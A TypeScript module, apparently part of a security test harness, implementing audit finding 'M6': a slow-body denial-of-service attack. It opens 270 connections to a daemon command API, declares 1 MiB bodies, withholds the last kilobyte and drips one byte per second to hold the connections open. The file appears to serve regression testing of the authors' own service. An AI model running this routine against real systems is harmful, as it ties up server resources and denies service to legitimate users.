/** M6: bodies of 1 MiB that never end, of one account. */
import { randomBytes } from "node:crypto"
import { type Attack, attackerAddress } from "./attack.ts"
import { emptyTally, keepOpen } from "./sockets.ts"

const bodies = 270
const keys = 4
const bodyBytes = 1_048_576
const dripMillis = 1_000
const missingBytes = 1_024

/** With four keys. */
export const slowBodies: Attack = {
  finding: "M6",
  asks: `${bodies} bodies of 1 MiB of one account that never end`,
  holds: () => ({ plan: "free", keys, daemons: 1 }),
  strike: async (target) => {
    const [tally, { keys: own = [], daemons = [] }] = [emptyTally(), target.holder ?? { keys: [], daemons: [] }]
    const most = Buffer.alloc(bodyBytes - missingBytes, 0x20)
    await keepOpen(target, target.tiny ? 20 : bodies, attackerAddress, tally, (socket, at) => {
      const head = [
        `POST /api/v1/daemons/${daemons[0]?.daemonId}/command HTTP/1.1`,
        `host: ${target.url.host}`,
        `authorization: Bearer ${own[at % own.length]}`,
        `x-siege: ${randomBytes(4).toString("hex")}`,
        "content-type: application/json",
        `content-length: ${bodyBytes}`
      ]
      socket.write(`${head.join("\r\n")}\r\n\r\n`)
      socket.write(most, () => {
        tally.bytesSent += most.length
        target.reach()
      })
      const drip = setInterval(() => socket.write(" "), dripMillis)
      socket.on("close", () => clearInterval(drip))
    })
    return { ...tally }
  }
}
